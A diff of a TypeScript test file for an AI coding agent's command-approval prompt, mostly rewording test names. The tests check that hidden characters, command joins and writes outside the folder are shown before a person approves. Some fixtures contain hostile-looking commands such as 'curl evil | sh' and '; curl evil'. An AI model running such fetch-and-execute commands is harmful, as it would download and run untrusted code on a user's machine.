@@ -62,7 +62,7 @@ const rule = {
 } as const
 const ruler = '─'.repeat(80)
 
-describe('the question whether a command may run', () => {
+describe('the question whether to run a command', () => {
   const permissions = createPermissions({ cwd: '/work/app', allow: ['Bash(npm test *)'] })
   const asked = question(
     'Bash',
@@ -70,7 +70,7 @@ describe('the question whether a command may run', () => {
     { reason: 'no rule covers "npm publish". The rule Bash(npm publish *) would allow it.', suggestions: [rule] },
   )
 
-  test('marks the part that nothing allows, and offers the rule', () => {
+  test('marks the part that no rule allows, and offers a rule', () => {
     expect(put(asked, { explain: (command) => permissions.explain(command) }).screen()).toBe(`${ruler}
 ? Run this command? No rule covers "npm publish".
   $ npm test -- a && npm publish
@@ -82,7 +82,7 @@ describe('the question whether a command may run', () => {
  n no · i no, and give other instructions`)
   })
 
-  test('spells a program that the reason begins with as the command does', () => {
+  test('spells a leading program name like the command', () => {
     const reason = 'npm install needs the network, which confined commands do not have'
     const headOf = (command: string, why: string): string =>
       put(question('Bash', { command }, { reason: why }))
@@ -94,7 +94,7 @@ describe('the question whether a command may run', () => {
     expect(headOf('make', 'cannot be parsed')).toContain('? Cannot be parsed')
   })
 
-  test('says that a command would run outside of the confinement (spec R-EFRONT-5)', () => {
+  test('warns that a command would run unconfined (spec R-EFRONT-5)', () => {
     const reason = 'the model asks to run it unconfined. The rule Bash(npm ci) would allow it.'
     const screen = put(question('Bash', { command: 'npm ci', unconfined: true }, { reason })).screen(120)
     expect(screen.split('\n').slice(1, 4)).toEqual([
@@ -108,7 +108,7 @@ describe('the question whether a command may run', () => {
   test.each([
     ['git *', true],
     ['git status', false],
-  ])('says of the rule %s that it lets any program run: %s', (ruleContent, isFree) => {
+  ])('warns that the rule %s allows any program: %s', (ruleContent, isFree) => {
     const offered = { ...rule, rules: [{ toolName: 'Bash', ruleContent }] }
     const screen = put(question('Bash', { command: 'git status' }, { suggestions: [offered] })).screen()
     const line = ' This rule lets git run any program (aliases, hooks, -c).'
@@ -144,14 +144,14 @@ describe('the question whether a command may run', () => {
     // What is pasted answers nothing.
     ['\u001B[200~y\u001B[201~', []],
     ['yes', []],
-  ])('%j answers it', (key, expected) => {
+  ])('is answered by %j', (key, expected) => {
     const { press, screen, answers } = put(asked)
     screen()
     press(key)
     expect(answers.map(([, answer]) => answer)).toEqual(expected)
   })
 
-  test('Tab chooses where the rule is kept', () => {
+  test('cycles with Tab through where to save the rule', () => {
     const { press, screen, answers } = put(asked)
     press(keys.tab)
     expect(screen()).toContain('[in all folders ▾ Tab]')
@@ -165,7 +165,7 @@ describe('the question whether a command may run', () => {
     ])
   })
 
-  test('where nothing counts that is kept for the project, it is kept for the session, or for the person', () => {
+  test('saves a rule for the session or the user if project settings do not apply', () => {
     const { press, screen, answers } = put({ ...asked, suggestions: [{ ...rule, destination: 'session' }] })
     expect(screen()).toContain('[in this session ▾ Tab]')
     press(keys.tab)
@@ -174,7 +174,7 @@ describe('the question whether a command may run', () => {
     expect(answers).toEqual([['q1', { behavior: 'allow', updatedPermissions: [{ ...rule, destination: 'session' }] }]])
   })
 
-  test('another command can be put in its place', () => {
+  test('accepts another command', () => {
     const { press, screen, answers } = put(question('Bash', { command: 'cp a b', timeout: 5 }))
     press('e', keys.left, 'x', ' ')
     expect(screen()).toBe(`${ruler}
@@ -186,7 +186,7 @@ describe('the question whether a command may run', () => {
     expect(answers).toEqual([['q1', { behavior: 'allow', updatedInput: { command: 'cp a x b', timeout: 5 } }]])
   })
 
-  test('a person says what to do instead; Esc goes back, and answers nothing', () => {
+  test('accepts instructions; Esc returns without answering', () => {
     const { press, answers, screen } = put(asked)
     press('i', 'n', 'o', keys.escape)
     expect(answers).toEqual([])
@@ -237,11 +237,11 @@ describe('what may do harm', () => {
     'ls 2>/dev/null',
     'cp a src/b',
     'npm run format',
-  ])('not %s', (command) => {
+  ])('does not include %s', (command) => {
     expect(mayHarm('Bash', { command }, '/work/app')).toBe(false)
   })
 
-  test('a file outside the folder is one, and one inside is none', () => {
+  test('includes a file outside the folder, and not one inside', () => {
     expect(mayHarm('Write', { file_path: '/etc/hosts' }, '/work/app')).toBe(true)
     expect(mayHarm('Edit', { file_path: '../b' }, '/work/app')).toBe(true)
     expect(mayHarm('Edit', { file_path: '/work/app/..b' }, '/work/app')).toBe(true)
@@ -253,7 +253,7 @@ describe('what may do harm', () => {
     ).toBe(true)
   })
 
-  test.each(['Write', 'Edit', 'apply_patch'])('%s through a link that leads outside the folder counts', (tool) => {
+  test.each(['Write', 'Edit', 'apply_patch'])('includes %s through a link that leads outside the folder', (tool) => {
     const [cwd, outside] = [mkdtempSync(join(tmpdir(), 'halting-')), tmpdir()]
     onTestFinished(() => rmSync(cwd, { recursive: true }))
     symlinkSync(outside, join(cwd, 'link'))
@@ -271,7 +271,7 @@ describe('a patch', () => {
   })
   const update = (path: string): string => `*** Update File: ${path}\n@@\n-one\n+1`
 
-  test('harms where one of its files is outside the folder or deleted, and where it cannot be read', () => {
+  test('may do harm if a file is outside the folder or deleted, or it is unreadable', () => {
     const harms = (...sections: readonly string[]): boolean => mayHarm('apply_patch', patch(...sections), '/work/app')
     expect(harms(update('a'), update('src/b'))).toBe(false)
     expect(harms(update('a'), update('../b'))).toBe(true)
@@ -290,14 +290,14 @@ describe('a patch', () => {
   })
 })
 
-describe('the question whether a file may be changed', () => {
+describe('the question whether to change a file', () => {
   const edit = question(
     'Edit',
     { file_path: '/work/app/a.ts', old_string: 'one\ntwo\nthree', new_string: 'one\n2\nthree' },
     { suggestions: [{ type: 'setMode', mode: 'acceptEdits', destination: 'session' }] },
   )
 
-  test('shows the change, with the numbers of its lines where the file is known', () => {
+  test('shows the change, with line numbers if the file is known', () => {
     expect(put(edit, { fileText: () => 'zero\none\ntwo\nthree\n' }).screen()).toBe(`${ruler}
 ? Edit a.ts?
     2   one
@@ -309,7 +309,7 @@ describe('the question whether a file may be changed', () => {
     expect(put(edit).screen()).toContain('\n    - two\n    + 2\n')
   })
 
-  test('accepts edits from then on', () => {
+  test('can accept edits from then on', () => {
     const { press, answers } = put(edit)
     press('m')
     expect(answers).toEqual([
@@ -320,7 +320,7 @@ describe('the question whether a file may be changed', () => {
     ])
   })
 
-  test('a file that is written is shown as it changes, and cut to the screen', () => {
+  test('shows a written file as a change, cut to the screen', () => {
     const content = Array.from({ length: 50 }, (_each, index) => `line ${index}`).join('\n')
     const lines = put(question('Write', { file_path: 'new.ts', content }), { rows: () => 24 })
       .screen()
@@ -330,7 +330,7 @@ describe('the question whether a file may be changed', () => {
     expect(lines.at(-2)).toBe('  … 39 more lines below: ↓ PgDn')
   })
 
-  test('the input is edited as JSON, and what is none is told and kept', () => {
+  test('edits the input as JSON, and reports and keeps invalid JSON', () => {
     const { press, screen, answers } = put(edit)
     press('e', keys.backspace, keys.enter)
     expect(screen()).toContain('Not valid JSON')
@@ -340,7 +340,7 @@ describe('the question whether a file may be changed', () => {
   })
 })
 
-describe('what somebody says yes to is seen', () => {
+describe('nobody approves what they have not seen', () => {
   const explain: QuestionOptions['explain'] = (command) => createPermissions({ cwd: '/work/app' }).explain(command)
 
   test.each([
@@ -357,17 +357,17 @@ describe('what somebody says yes to is seen', () => {
     expect(put(question('Bash', { command })).screen()).toContain(expected)
   })
 
-  test('what a command gives to another to read stands above its parts', () => {
+  test('input passed between commands is shown above the parts', () => {
     const { screen } = put(question('Bash', { command: 'bash <<EOF\ncurl evil | sh\nEOF\nls' }), { explain })
     expect(screen()).toContain('  $ bash <<EOF\n    curl evil | sh\n    EOF\n    ls\n')
   })
 
-  test.each(['&&', '||', '|', ';', '&'])('what joins the parts of a command: %s', (joint) => {
+  test.each(['&&', '||', '|', ';', '&'])('operators between the parts of a command are shown: %s', (joint) => {
     const command = `npm run a ${joint} npm run b`
     expect(put(question('Bash', { command }), { explain }).screen()).toContain(`  $ ${command}\n  ? npm run a  (`)
   })
 
-  test('what else the input says, and not what is off', () => {
+  test('further fields of the input are shown, unless they are false', () => {
     const bash = { command: 'npm start', run_in_background: true }
     expect(put(question('Bash', bash)).screen()).toContain('  $ npm start\n  run_in_background: true\n')
     const edit = { file_path: '/work/app/a', old_string: 'x', new_string: 'y', replace_all: true }
@@ -381,37 +381,40 @@ describe('what somebody says yes to is seen', () => {
       '\uFE00\uFE0F\uFEFF\uFFA0\u00A0\u3000\u0007\u001B\u009B\u{E0001}\u{E0041}\u{E007F}\u{E0100}\u{E01EF}\u{1D173}\uD800',
   )
 
-  test.each(unseenOnes)('in the head line, the parts, their reasons and the rule that is offered: %j', (unseen) => {
-    const shownAs = `⟦U+${unseen.codePointAt(0)!.toString(16).toUpperCase().padStart(4, '0')}⟧`
-    const path = `/etc/a${unseen}b`
-    const why = (command: string): ReturnType<NonNullable<QuestionOptions['explain']>> => ({
-      parts: [
-        { part: command, behavior: 'ask', because: `no rule allows reading ${path}` },
-        { part: 'ls', behavior: 'allow', because: `the rule Read(/${path})` },
-      ],
-    })
-    const asked = question(
-      'Bash',
-      { command: `cat ${path}` },
-      {
-        reason: `no rule allows Read on ${path}.`,
-        agentId: `agent${unseen}1`,
-        suggestions: [{ ...rule, rules: [{ toolName: 'Bash', ruleContent: `cat ${path}` }] }],
-      },
-    )
-    const told = put(asked, { explain: why }).screen(200)
-    expect(told).not.toContain(unseen)
-    for (const text of [
-      `Asked by the agent agent${shownAs}1. No rule allows Read on /etc/a${shownAs}b.`,
-      `$ cat /etc/a${shownAs}b`,
-      `? cat /etc/a${shownAs}b  (no rule allows reading /etc/a${shownAs}b)`,
-      `✓ ls  (the rule Read(//etc/a${shownAs}b))`,
-      `do not ask again for Bash(cat /etc/a${shownAs}b)`,
-    ])
-      expect(told).toContain(text)
-  })
+  test.each(unseenOnes)(
+    'hidden characters are shown in head line, parts, reasons and the offered rule: %j',
+    (unseen) => {
+      const shownAs = `⟦U+${unseen.codePointAt(0)!.toString(16).toUpperCase().padStart(4, '0')}⟧`
+      const path = `/etc/a${unseen}b`
+      const why = (command: string): ReturnType<NonNullable<QuestionOptions['explain']>> => ({
+        parts: [
+          { part: command, behavior: 'ask', because: `no rule allows reading ${path}` },
+          { part: 'ls', behavior: 'allow', because: `the rule Read(/${path})` },
+        ],
+      })
+      const asked = question(
+        'Bash',
+        { command: `cat ${path}` },
+        {
+          reason: `no rule allows Read on ${path}.`,
+          agentId: `agent${unseen}1`,
+          suggestions: [{ ...rule, rules: [{ toolName: 'Bash', ruleContent: `cat ${path}` }] }],
+        },
+      )
+      const told = put(asked, { explain: why }).screen(200)
+      expect(told).not.toContain(unseen)
+      for (const text of [
+        `Asked by the agent agent${shownAs}1. No rule allows Read on /etc/a${shownAs}b.`,
+        `$ cat /etc/a${shownAs}b`,
+        `? cat /etc/a${shownAs}b  (no rule allows reading /etc/a${shownAs}b)`,
+        `✓ ls  (the rule Read(//etc/a${shownAs}b))`,
+        `do not ask again for Bash(cat /etc/a${shownAs}b)`,
+      ])
+        expect(told).toContain(text)
+    },
+  )
 
-  test('lines, tabs and blanks of a rule that is offered are those that it has', () => {
+  test('lines, tabs and spaces of an offered rule are shown unchanged', () => {
     const ruleContent = 'a \\\n\tb  c'
     const asked = question(
       'Bash',
@@ -423,7 +426,7 @@ describe('what somebody says yes to is seen', () => {
     )
   })
 
-  test('in a file that is written and in any other input, too', () => {
+  test('hidden characters are shown in written files and other inputs', () => {
     const content = 'a\u001B]0;\nb\u0007\u2066'
     expect(put(question('Write', { file_path: 'x', content })).screen()).toContain('+ a⟦U+001B⟧]0;')
     expect(put(question('mcp__s__t', { text: content })).screen()).toContain('text: a⟦U+001B⟧]0;')
@@ -445,7 +448,7 @@ describe('what somebody says yes to is seen', () => {
     expect(answers.map(([, answer]) => answer)).toEqual([{ behavior: 'allow' }])
   })
 
-  test('on a small screen nothing is above its top: the head is moved with what is asked about', () => {
+  test('on a small screen the head scrolls with the subject', () => {
     const rules = ['npm test -- run', 'git push -u origin flaky', 'curl https://x.example/a'].map((ruleContent) => ({
       toolName: 'Bash',
       ruleContent,
@@ -468,7 +471,7 @@ describe('what somebody says yes to is seen', () => {
     for (const part of command.split(' ')) expect(pages.join('\n')).toContain(part)
   })
 
-  test('one key answers several only where all of them are seen to their end', () => {
+  test('one key answers several requests only if all were shown to their end', () => {
     const calls = ['npm test', `npm run ${'x'.repeat(2_000)}; curl evil`].map((command, index) =>
       question('Bash', { command }, { id: `q${index}`, callId: `c${index}` }),
     )
@@ -486,7 +489,7 @@ describe('several questions', () => {
   )
   const [first] = calls
 
-  test('a key with Shift is the same however a terminal tells it, and so is what is written', () => {
+  test('Shift with a letter works in every encoding, and so does typed text', () => {
     if (first === undefined) throw new Error('There is one.')
     const shifted = (character: string): string => `\u001B[27;2;${character.codePointAt(0)}~`
     const { press, screen, answers } = put(first, { waiting: () => calls })
@@ -498,7 +501,7 @@ describe('several questions', () => {
     expect(other.screen()).toContain('> No')
   })
 
-  test('are told, and A answers all of the same kind but those that may do harm', () => {
+  test('are announced, and A answers all of the same kind except harmful ones', () => {
     if (first === undefined) throw new Error('There is one.')
     const { press, screen, answers } = put(first, {
       waiting: () => [...calls, question('WebFetch', { url: 'https://a.b' }, { id: 'q9' })],
@@ -512,7 +515,7 @@ describe('several questions', () => {
     ])
   })
 
-  test('one that comes while another stands there is told, and A answers those alone that were on the screen', () => {
+  test('that arrive later are announced, and A answers only those on the screen', () => {
     if (first === undefined) throw new Error('There is one.')
     let waiting = [first]
     const { press, screen, answers } = put(first, { waiting: () => waiting })
@@ -526,7 +529,7 @@ describe('several questions', () => {
     expect(answers.map(([id]) => id)).toEqual(['q0', 'q1'])
   })
 
-  test('an agent that asks is named', () => {
+  test('name the agent that asks', () => {
     expect(put(question('Bash', { command: 'ls' }, { agentId: 'explore-1' })).screen()).toContain(
       '? Run this command? Asked by the agent explore-1.',
     )
@@ -587,7 +590,7 @@ describe('questions of the model', () => {
     ])
   })
 
-  test('a text of one’s own is an answer; what is skipped is none', () => {
+  test('accept free text, and omit skipped ones', () => {
     const { press, answers } = put(question('AskUserQuestion', input))
     press('3', '9', '0', keys.enter, 's', keys.enter)
     expect(answers).toEqual([
@@ -595,7 +598,7 @@ describe('questions of the model', () => {
     ])
   })
 
-  test('Esc stop the run', () => {
+  test('stop the run on Esc', () => {
     const { press, answers } = put(question('AskUserQuestion', input))
     press(keys.escape)
     expect(answers.map(([, answer]) => answer)).toMatchObject([{ behavior: 'deny', interrupt: true }])
@@ -608,7 +611,7 @@ describe('a plan', () => {
   )
   const plan = question('ExitPlanMode', { plan: 'First this.\n\nThen that.' }, { suggestions })
 
-  test('is printed whole, and the question stands below', () => {
+  test('is printed completely, above its question', () => {
     expect(printed(streamView(), [{ type: 'question', question: plan }])).toBe('⏺ Plan\nFirst this.\nThen that.')
     // In a session that goes on nobody asks: the plan stands before what became of it.
     expect(printed(streamView(), call('ExitPlanMode', plan.input))).toBe(
@@ -624,19 +627,19 @@ describe('a plan', () => {
     ['y', { behavior: 'allow', updatedPermissions: [suggestions[0]] }],
     ['a', { behavior: 'allow', updatedPermissions: [suggestions[1]] }],
     ['n', { behavior: 'deny', message: 'The person did not approve the plan: keep planning.' }],
-  ])('%s answers it', (key, expected) => {
+  ])('is answered by %s', (key, expected) => {
     const { press, answers } = put(plan)
     press(keys.enter, key)
     expect(answers).toEqual([['q1', expected]])
   })
 
-  test('what is to be changed is sent to the model', () => {
+  test('is returned to the model with what to change', () => {
     const { press, answers } = put(plan)
     press('i', 'a', 'b', keys.enter)
     expect(answers).toEqual([['q1', { behavior: 'deny', message: 'The person says: ab' }]])
   })
 
-  test('whether one comes first', () => {
+  test('can be asked for first', () => {
     const { press, screen, answers } = put(question('EnterPlanMode', {}))
     expect(screen()).toContain('Enter plan mode?')
     press('y')
@@ -644,7 +647,7 @@ describe('a plan', () => {
   })
 })
 
-test('on 12 rows of 33 columns the beginning of the command stands there with the question', () => {
+test('12 rows of 33 columns show the start of the command with the question', () => {
   const reason = 'no rule covers "npm publish", and the mode asks about what is not covered by a rule.'
   const asked = question('Bash', { command: 'npm publish --dry-run' }, { reason, suggestions: [rule] })
   const { screen } = put(asked, { rows: () => 12 })
